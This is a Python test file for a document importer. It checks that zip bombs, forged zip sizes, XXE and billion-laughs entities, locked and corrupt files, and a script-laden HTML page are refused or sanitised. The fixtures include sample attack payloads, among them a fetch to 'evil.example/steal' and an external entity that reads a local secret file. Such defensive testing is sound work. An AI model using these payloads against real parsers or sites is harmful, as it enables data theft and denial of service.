"""Bad and hostile files: each refused with the file's name and a reason, or read safely."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest

from briefpack.errors import FileRefused
from briefpack.importers import iter_statement_files, read_file
from briefpack.importers.pdf import SCANNED

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHORT = "A title\n\nA paragraph of the statement.\n"


def _docx_with(document_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", document_xml)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _paragraphs_xml(*texts: str, prolog: str = "") -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{t}</w:t></w:r></w:p>" for t in texts)
    return f'{prolog}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode()


def _set_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Rewrite the uncompressed size a zip declares for `name`, in both of its headers."""
    data = bytearray(data)
    encoded = name.encode()
    local = data.find(b"PK\x03\x04" + b"")
    while local >= 0:
        (name_length,) = struct.unpack_from("<H", data, local + 26)
        if data[local + 30 : local + 30 + name_length] == encoded:
            struct.pack_into("<I", data, local + 22, size)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        (name_length,) = struct.unpack_from("<H", data, central + 28)
        if data[central + 46 : central + 46 + name_length] == encoded:
            struct.pack_into("<I", data, central + 24, size)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def _refused(path: Path, *words: str) -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        read_file(path)
    assert path.name in str(caught.value)
    for word in words:
        assert word in caught.value.reason, caught.value.reason
    return caught.value


def test_zip_bomb_part_refused_without_unpacking(tmp_path: Path) -> None:
    # 40 MB of one byte: a few kilobytes packed.
    bomb = _docx_with(b"<" * (40 * 1024 * 1024))
    assert len(bomb) < 200_000
    path = tmp_path / "bomb.docx"
    path.write_bytes(bomb)
    _refused(path, "zip bomb")


def test_zip_declaring_a_huge_total_refused(tmp_path: Path) -> None:
    data = _docx_with(_paragraphs_xml("Title", "Body"), {"word/media/a.bin": b"x" * 1000})
    path = tmp_path / "huge.docx"
    path.write_bytes(_set_declared_size(data, "word/media/a.bin", 3_000_000_000))
    _refused(path, "zip bomb")


def test_zip_lying_about_a_small_size_is_caught(tmp_path: Path) -> None:
    data = _docx_with(_paragraphs_xml("Title", "Body " * 5000))
    path = tmp_path / "liar.docx"
    path.write_bytes(_set_declared_size(data, "word/document.xml", 100))
    _refused(path, "damaged")


def test_zip_with_too_many_parts_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", _paragraphs_xml("Title", "Body"))
        for index in range(6000):
            archive.writestr(f"word/x{index}", b"")
    path = tmp_path / "many.docx"
    path.write_bytes(buffer.getvalue())
    _refused(path, "parts")


def test_corrupt_and_truncated_docx(files, tmp_path: Path) -> None:
    data = files.make_docx(SHORT)
    path = tmp_path / "cut.docx"
    path.write_bytes(data[: len(data) // 2])
    _refused(path, "damaged")
    path = tmp_path / "garbage.docx"
    path.write_bytes(b"PK\x03\x04" + b"\x13" * 500)
    _refused(path, "damaged")


def test_docx_with_no_text_and_docx_without_body(files, tmp_path: Path) -> None:
    import docx

    path = tmp_path / "empty.docx"
    docx.Document().save(path)
    _refused(path, "no text")


def test_external_entities_are_never_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET")
    prolog = f'<!DOCTYPE d [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
    data = _docx_with(_paragraphs_xml("Title", "Body &leak; end", prolog=prolog))
    path = tmp_path / "xxe.docx"
    path.write_bytes(data)
    try:
        imported = read_file(path)
    except FileRefused:
        return
    assert "TOP SECRET" not in imported[0].text


def test_billion_laughs_does_not_expand(tmp_path: Path) -> None:
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    data = _docx_with(_paragraphs_xml("Title", "Body &j;", prolog=f"<!DOCTYPE d [{entities}]>"))
    path = tmp_path / "laughs.docx"
    path.write_bytes(data)
    try:
        [imported] = read_file(path)
    except FileRefused:
        return
    assert len(imported.text) < 10_000


def test_password_protected_word_file(tmp_path: Path) -> None:
    # Word saves a protected .docx as an OLE2 container holding an "EncryptedPackage" stream.
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500 + "EncryptedPackage".encode(
        "utf-16-le") + b"\x00" * 500
    path = tmp_path / "locked.docx"
    path.write_bytes(ole)
    _refused(path, "password")
    path = tmp_path / "old.docx"
    path.write_bytes(ole.replace("EncryptedPackage".encode("utf-16-le"), b"\x00" * 32))
    _refused(path, ".doc")


def _pdf_writer_with_text(files) -> bytes:
    if files.font_paths() is None:
        pytest.skip("no TrueType font")
    return files.make_pdf(SHORT)


def test_password_protected_pdf_refused(files, tmp_path: Path) -> None:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(_pdf_writer_with_text(files)))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    path = tmp_path / "locked.pdf"
    with path.open("wb") as handle:
        writer.write(handle)
    _refused(path, "password")


def test_pdf_locked_only_against_editing_is_read(files, tmp_path: Path) -> None:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(_pdf_writer_with_text(files)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    path = tmp_path / "no-edit.pdf"
    with path.open("wb") as handle:
        writer.write(handle)
    [imported] = read_file(path)
    assert files.paragraphs(imported.text) == files.paragraphs(SHORT)


def test_scanned_pdf_reports_no_text_layer(tmp_path: Path) -> None:
    pytest.importorskip("PIL")
    from PIL import Image
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    image = Image.new("L", (200, 100), 255)
    path = tmp_path / "scan.pdf"
    page = canvas.Canvas(str(path))
    page.drawImage(ImageReader(image), 50, 500, 400, 200)
    page.showPage()
    page.save()
    _refused(path, SCANNED)


def test_corrupt_pdf(tmp_path: Path) -> None:
    path = tmp_path / "broken.pdf"
    path.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n")
    _refused(path)


def test_html_with_scripts_and_remote_content_is_read_safely(tmp_path: Path) -> None:
    page = """<!DOCTYPE html><html><head><title>Leaders must act | Org</title>
    <script>alert('x'); fetch('https://evil.example/steal')</script>
    <link rel="stylesheet" href="https://evil.example/a.css">
    <meta http-equiv="refresh" content="0; url=https://evil.example/">
    </head><body onload="steal()">
    <iframe src="https://evil.example/frame"></iframe>
    <article><h1>Leaders must act</h1>
    <p>First paragraph <img src="https://evil.example/pixel.gif"> of the statement.</p>
    <object data="https://evil.example/flash.swf"></object>
    <p>Second <script>document.write('injected')</script>paragraph.</p>
    <svg><image href="https://evil.example/x.svg"/></svg>
    </article></body></html>"""
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    [imported] = read_file(path)
    assert imported.text == (
        "Leaders must act\n\nFirst paragraph of the statement.\nSecond paragraph.\n"
    )


def test_content_read_by_what_it_is(files, tmp_path: Path) -> None:
    (tmp_path / "really-a-docx.pdf").write_bytes(files.make_docx(SHORT))
    [imported] = read_file(tmp_path / "really-a-docx.pdf")
    assert imported.format == "docx"
    assert imported.warnings == ["named .pdf but it is a Word document; read as such"]
    (tmp_path / "notes.pdf").write_text(SHORT, encoding="utf-8")
    [imported] = read_file(tmp_path / "notes.pdf")
    assert imported.format == "txt" and "plain text" in imported.warnings[0]
    (tmp_path / "page.txt").write_bytes(files.make_html(SHORT))
    [imported] = read_file(tmp_path / "page.txt")
    assert imported.format == "html" and "cookie" not in imported.text
    (tmp_path / "odt.docx").write_bytes(files.make_odt(SHORT))
    assert read_file(tmp_path / "odt.docx")[0].format == "odt"


def test_content_that_is_no_statement_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "photo.pdf"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 100)
    _refused(path, "image")
    path = tmp_path / "letter.docx"
    path.write_bytes(b"{\\rtf1\\ansi Hello}")
    _refused(path, ".rtf")
    path = tmp_path / "zeros.pdf"
    path.write_bytes(b"\x00" * 2000)
    _refused(path, "binary")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    path = tmp_path / "archive.docx"
    path.write_bytes(buffer.getvalue())
    _refused(path, "damaged")


def test_size_limits(tmp_path: Path) -> None:
    path = tmp_path / "big.pdf"
    with path.open("wb") as handle:
        handle.write(b"%PDF-1.7\n")
        handle.truncate(50 * 1024 * 1024 + 1)
    _refused(path, "50 MB")
    path = tmp_path / "big.html"
    with path.open("wb") as handle:
        handle.write(b"<html><body><p>")
        handle.write(b"a" * (5 * 1024 * 1024))
    _refused(path, "5 MB")


def test_folder_imports_the_rest_when_some_files_are_bad(files, tmp_path: Path) -> None:
    folder = tmp_path / "statements"
    (folder / "sub").mkdir(parents=True)
    files.make_docx(SHORT, folder / "good.docx")
    files.make_html(SHORT, folder / "sub" / "good.html")
    (folder / "bad.docx").write_bytes(b"PK\x03\x04 broken")
    (folder / "empty.pdf").write_bytes(b"")
    (folder / "ignored.xyz").write_text("not a statement")
    (folder / "~$good.docx").write_bytes(b"\x05Editor" + b"\x00" * 150)  # Word's lock file
    read, refused = [], []
    for item in iter_statement_files([folder]):
        assert isinstance(item, Path)
        try:
            read.extend(read_file(item))
        except FileRefused as error:
            refused.append(error.path.name)
    assert sorted(i.path.name for i in read) == ["good.docx", "good.html"]
    assert sorted(refused) == ["bad.docx", "empty.pdf"]
